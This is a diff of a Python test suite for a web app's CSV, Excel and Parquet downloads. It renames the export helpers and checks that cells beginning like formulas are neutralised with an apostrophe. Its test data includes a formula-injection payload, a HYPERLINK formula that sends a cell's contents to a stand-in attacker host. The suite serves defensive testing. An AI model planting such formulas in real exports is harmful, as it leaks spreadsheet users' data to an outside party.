@@ -14,7 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from ui.views import downloads
-from ui.views.spreadsheets import csv_of, excel_of
+from ui.views.spreadsheets import write_csv, write_excel
 
 ATTACKS = (
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -45,34 +45,34 @@ def read_excel(content: bytes) -> list[list[object]]:
 
 @pytest.mark.parametrize("text", ATTACKS)
 def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
-    for row in read_csv(csv_of([text], [[text]])):
+    for row in read_csv(write_csv([text], [[text]])):
         assert row[0].startswith("'")
         assert row[0].replace("'", "") == text.replace("'", "")
-    for row in read_excel(excel_of([text], [[text]])):
+    for row in read_excel(write_excel([text], [[text]])):
         assert str(row[0]).startswith("'")
 
 
 @pytest.mark.parametrize("text", ["a;=1+1", "a; -2+3", "a\t@SUM(1)", "a\n=1+1", "a\r\n+1", 'a;"=1+1"', "a;＝1+1"])
 def test_no_formula_begins_where_semicolons_separate_cells(text: str) -> None:
     """As Excel reads a CSV in much of Europe: a quote within a cell is a letter, and a line ends where it ends."""
-    for line in csv_of(["n", text], [[1, text]]).decode("utf-8-sig").splitlines():
+    for line in write_csv(["n", text], [[1, text]]).decode("utf-8-sig").splitlines():
         for cell in re.split("[;\t]", line):
             assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝")), line
 
 
 @pytest.mark.parametrize("text", HARMLESS)
 def test_other_texts_stay_as_they_are(text: str) -> None:
-    assert read_csv(csv_of(["c", "n"], [[text, 1]])) == [["c", "n"], [text, "1"]]
-    assert read_excel(excel_of(["c", "n"], [[text, 1]]))[1] == [text or None, 1]
+    assert read_csv(write_csv(["c", "n"], [[text, 1]])) == [["c", "n"], [text, "1"]]
+    assert read_excel(write_excel(["c", "n"], [[text, 1]]))[1] == [text or None, 1]
 
 
 def test_numbers_and_days_stay_what_they_are() -> None:
     values = [-1, -2.5, Decimal("-3.25"), True, None, date(2026, 1, 2), datetime(2026, 1, 2, 3, 4), time(5, 6)]
     names = [f"c{n}" for n in range(len(values))]
-    assert read_csv(csv_of(names, [values]))[1] == [
+    assert read_csv(write_csv(names, [values]))[1] == [
         *("-1", "-2.5", "-3.25", "True", "", "2026-01-02", "2026-01-02 03:04:00", "05:06:00")
     ]
-    whole = read_excel(excel_of(names, [values]))[1]
+    whole = read_excel(write_excel(names, [values]))[1]
     assert whole[:5] == [-1, -2.5, -3.25, True, None]
     assert whole[5:] == [datetime(2026, 1, 2), datetime(2026, 1, 2, 3, 4), time(5, 6)]
 
@@ -80,7 +80,7 @@ def test_numbers_and_days_stay_what_they_are() -> None:
 def test_what_excel_cannot_hold_is_text_or_empty() -> None:
     far = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
     values = [float("nan"), float("-inf"), 12345678901234567890, -12345678901234567, far, date(1812, 6, 24), "a\x00b"]
-    assert read_excel(excel_of(list("abcdefg"), [values]))[1] == [
+    assert read_excel(write_excel(list("abcdefg"), [values]))[1] == [
         *(None, None, "12345678901234567890", "'-12345678901234567", "2026-01-02 03:04:00+00:00", "1812-06-24", "a�b")
     ]
 
@@ -97,9 +97,9 @@ def test_what_excel_cannot_hold_is_text_or_empty() -> None:
 )  # fmt: skip
 def test_no_table_holds_a_formula(values: list[object]) -> None:
     names = [f"c{n}" for n in range(len(values))]
-    for value, cell in zip(values, read_csv(csv_of(names, [values]))[1], strict=True):
+    for value, cell in zip(values, read_csv(write_csv(names, [values]))[1], strict=True):
         assert not (isinstance(value, str) and cell.lstrip().startswith(("=", "+", "-", "@")))
-    read_excel(excel_of(names, [values]))
+    read_excel(write_excel(names, [values]))
 
 
 class Given:
@@ -117,9 +117,9 @@ class Given:
 
 
 def test_the_page_downloads_these() -> None:
-    columns, rows = downloads.raw(Given(), "1.1.1")  # type: ignore[arg-type]
-    assert read_csv(csv_of(columns, rows)) == [["name", "amount"], ["'=1+1", "-5"]]
-    assert read_excel(excel_of(columns, rows)) == [["name", "amount"], ["'=1+1", -5]]
+    columns, rows = downloads.list_raw_rows(Given(), "1.1.1")  # type: ignore[arg-type]
+    assert read_csv(write_csv(columns, rows)) == [["name", "amount"], ["'=1+1", "-5"]]
+    assert read_excel(write_excel(columns, rows)) == [["name", "amount"], ["'=1+1", -5]]
 
 
 def test_parquet_keeps_numbers_and_mixed_columns() -> None:
@@ -127,5 +127,5 @@ def test_parquet_keeps_numbers_and_mixed_columns() -> None:
 
     from pyarrow import parquet
 
-    made = parquet.read_table(io.BytesIO(downloads.parquet_of(["n", "mixed"], [[1.5, 1], [None, "x"]])))
+    made = parquet.read_table(io.BytesIO(downloads.write_parquet(["n", "mixed"], [[1.5, 1], [None, "x"]])))
     assert made.to_pydict() == {"n": [1.5, None], "mixed": ["1", "x"]}
